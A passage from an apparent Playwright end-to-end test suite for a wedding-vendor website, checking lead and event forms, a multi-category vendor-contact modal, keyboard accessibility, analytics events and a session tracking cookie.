    // The deal's own promotion (1), which the lead carried to the server.
    await expect(code.textContent()).resolves.toBe('Code: WED-1000-1');
    await context.close();
  });

  it('opens a storefront event’s form (the event form half, with its eventId), and the lead carries the event', async () => {
    const { context, page, errors } = await leadPage();
    await page.goto(`${env.url}biz/rosewood-estate-1000.html`);
    await booted(page);
    const asked = await callsFrom(env.url, '/vendors/transactional/event-form-half');
    const leads = await callsFrom(env.url, RUN_PATH);
    await page.getByRole('link', { name: 'Join the open house' }).click();
    const dialog = page.getByRole('dialog', { name: "Join Rosewood Estate's event" });
    await dialog.getByLabel('Name').waitFor();
    expect(await asked()).toEqual([expect.objectContaining({ eventId: '1', storefrontId: '5000', storefrontVendorId: '1000', formInsert: '28' })]);
    expect(await axeViolations(page)).toEqual([]);
    await dialog.getByRole('button', { name: 'Edit message' }).click();
    await fillValidLead(dialog, 'event.couple@example.com');
    await submit(dialog);
    await expect.poll(async () => (await leads()).map((lead) => [lead.id_evento, lead.frmInsert])).toEqual([['1', '28']]);
    expect(errors).toEqual([]);
    await context.close();
  });

  it('after a deploy removed the lead form’s chunk, a tile’s Request pricing lands on the server’s lead form page (its href); nothing uncaught', async () => {
    const context = await env.browser.newContext();
    const page = await context.newPage();
    const errors = collectErrors(page);
    await resetStandIn(env.url);
    await page.goto(`${env.url}c/ca/san-francisco/wedding-photographers/6-vendors.html`);
    await booted(page);
    const cta = page.getByRole('link', { name: /^Request pricing from / }).first();
    const href = new URL((await cta.getAttribute('href')) ?? '', env.url).href;
    await page.evaluate(() => window.mockBackend?.chunks({ gone: true }));
    try {
      await cta.click();
      await page.waitForURL(href);
      await page.getByRole('button', { name: 'Request pricing' }).waitFor();
    } finally {
      await page.evaluate(() => window.mockBackend?.chunks({ gone: false }));
    }
    expect(errors.filter((error) => error.startsWith('uncaught:'))).toEqual([]);
    await context.close();
  });
});

describe('from a lead to the multi-category modal', () => {
  it('runs a logged-in couple from a venue lead through every category to the finish block, axe clean', async () => {
    const { context, page, errors } = await loggedInPage('couple@example.com', 'Wedding2026!');
    await forceNextStep(page, { type: 'multi_category_lead_modal' });
    await page.goto(`${env.url}emp-Form.php?id_empresa=${VENDOR_ID}`);
    const form = page.locator('form.lead-form[data-widget-state="mounted"]');
    await form.waitFor();
    // The couple's name and e-mail come from the server; role, region and consent are not asked.
    await expect(form.getByLabel('Email').inputValue()).resolves.toBe('couple@example.com');
    await form.getByLabel('Date', { exact: true }).fill(isoDay(250));
    await form.getByLabel('Estimated guest count').fill('110');
    await submit(form);

    const dialog = page.getByRole('dialog', { name: 'Contact more vendors' });
    await dialog.locator('.multi-lead__form h2').first().waitFor();
    expect(await axeViolations(page), 'modal open').toEqual([]);
    const leads = () => page.evaluate(async () => (await window.mockBackend!.state()).counts.leads);
    const before = await leads();
    let sent = 0;
    let sends = 0;
    const visited: string[] = [];
    for (let step = 0; step < 20 && !(await dialog.getByText('You have already contacted vendors in all categories.').isVisible()); step++) {
      const title = (await dialog.locator('.multi-lead__form h2').first().textContent()) ?? '';
      visited.push(title);
      if (await dialog.getByText('You’ve contacted all vendors from this category.').isVisible()) {
        await dialog.getByRole('button', { name: 'Continue browsing' }).click();
      } else {
        const guests = dialog.getByLabel('Estimated guest count');
        if (await guests.count()) await guests.fill('110');
        sent += await dialog.getByRole('checkbox', { checked: true }).count();
        sends += 1;
        await dialog.getByRole('button', { name: 'Request pricing' }).click();
        await dialog.getByText('Messages sent!').waitFor();
      }
      await page.waitForFunction(
        (from) => {
          const finished = document.querySelector('[role="dialog"]')?.textContent?.includes('You have already contacted vendors in all categories.');
          const current = document.querySelector('[role="dialog"] .multi-lead__form');
          return finished || (current?.querySelector('h2')?.textContent !== from && !current?.querySelector('.mc-loading'));
        },
        title,
        { timeout: 15000 },
      );
    }
    await dialog.getByText('You have already contacted vendors in all categories.').waitFor();
    expect(visited.length).toBeGreaterThan(3);
    // One lead a checked vendor reached the stand-in.
    await expect(leads()).resolves.toBe(before + sent);
    // The venue's lead, then one analytics event per category sent, each with its category and group (spec §3).
    const hits = await page.evaluate(() =>
      ((window as unknown as { dataLayer?: { event?: string; leadCategory?: string; leadGroup?: string }[] }).dataLayer ?? []).filter((hit) => hit.event === 'generate_lead').map((hit) => [hit.leadCategory, hit.leadGroup]),
    );
    expect(hits).toHaveLength(1 + sends);
    expect(hits.filter(([category, group]) => !/^[1-9]\d*$/.test(category ?? '') || !/^[1-9]\d*$/.test(group ?? ''))).toEqual([]);
    await expect(dialog.getByRole('link', { name: 'View vendor manager' }).getAttribute('href')).resolves.toBe('/tools/Vendors');
    expect(await axeViolations(page), 'finish block').toEqual([]);
    expect(errors).toEqual([]);
    await context.close();
  });

  it('is used by keyboard in the modal: focus stays in it, a category is sent with Enter, Escape closes and counts the back click', async () => {
    const { context, page } = await loggedInPage('couple@example.com', 'Wedding2026!');
    await forceNextStep(page, { type: 'multi_category_lead_modal' });
    await page.goto(`${env.url}emp-Form.php?id_empresa=${VENDOR_ID}`);
    const form = page.locator('form.lead-form[data-widget-state="mounted"]');
    await form.getByLabel('Estimated guest count').fill('110');
    await form.getByLabel('Estimated guest count').press('Enter');
    const dialog = page.getByRole('dialog', { name: 'Contact more vendors' });
    const title = dialog.locator('.multi-lead__form h2').first();
    await title.waitFor();
    const first = await title.textContent();
    const inDialog = () => page.evaluate(() => !!document.activeElement?.closest('[role="dialog"]'));
    for (let i = 0; i < 60; i++) {
      await page.keyboard.press('Tab');
      expect(await inDialog()).toBe(true);
      if (await page.evaluate(() => (document.activeElement as HTMLElement | null)?.textContent?.trim() === 'Request pricing')) break;
    }
    const guests = dialog.getByLabel('Estimated guest count');
    if (await guests.count()) await guests.fill('110');
    await dialog.getByRole('button', { name: 'Request pricing' }).focus();
    await page.keyboard.press('Enter');
    await dialog.getByText('Messages sent!').waitFor();
    await page.waitForFunction((from) => document.querySelector('[role="dialog"] .multi-lead__form h2')?.textContent !== from, first, { timeout: 15000 });
    expect(await inDialog()).toBe(true);
    await page.keyboard.press('Escape');
    await dialog.waitFor({ state: 'detached' });
    const cookies = await context.cookies();
    expect(cookies.find((c) => c.name === 'multilead-category-num-back-clicks')?.value).toBe('1');
    await context.close();
  });
});

describe('the session tracking cookie pt (spec §3)', () => {
  it('a visitor clicks a listing’s tile, then sends a lead: the lead carries the listing in pt, and no cookie was written before it', async () => {
    const context = await env.browser.newContext();
    const page = await context.newPage();
    const errors = collectErrors(page);
    await resetStandIn(env.url);
    const listing = 'c/ca/san-francisco/wedding-photographers/6-vendors.html';
    await page.goto(env.url + listing);
    await page.locator('[data-widget="vendor-tiles"][data-widget-state="mounted"]').waitFor();
    await page.locator('.vendor-tile').first().getByRole('heading').getByRole('link').click();
    await page.waitForURL(/\/biz\//);
    // Kept for the session, not in a cookie yet: a cookie written keeps the no-store pages out of the back/forward cache.
    expect((await context.cookies()).map((cookie) => cookie.name)).not.toContain('pt');
    await page.goto(`${env.url}emp-Form.php?id_empresa=${VENDOR_ID}`);
    await page.waitForSelector('form.lead-form[data-widget-state="mounted"]');
    const form = page.locator('form.lead-form');
    await fillValidLead(form);
    const lead = page.waitForRequest((request) => request.method() === 'POST' && new URL(request.url()).pathname === RUN_PATH);
    await submit(form);
    const sent = /(?:^|; )pt=([^;]*)/.exec((await (await lead).allHeaders()).cookie ?? '')?.[1];
    expect(JSON.parse(decodeURIComponent(sent ?? '""'))).toEqual({ t: 'sector', l: `/${listing}`, o: env.url + listing, r: 'listing' });
    const cookie = (await context.cookies()).find((c) => c.name === 'pt');
    // A session cookie: no expiry.
    expect(cookie?.expires).toBe(-1);
    expect(errors).toEqual([]);
    await context.close();
  });
});
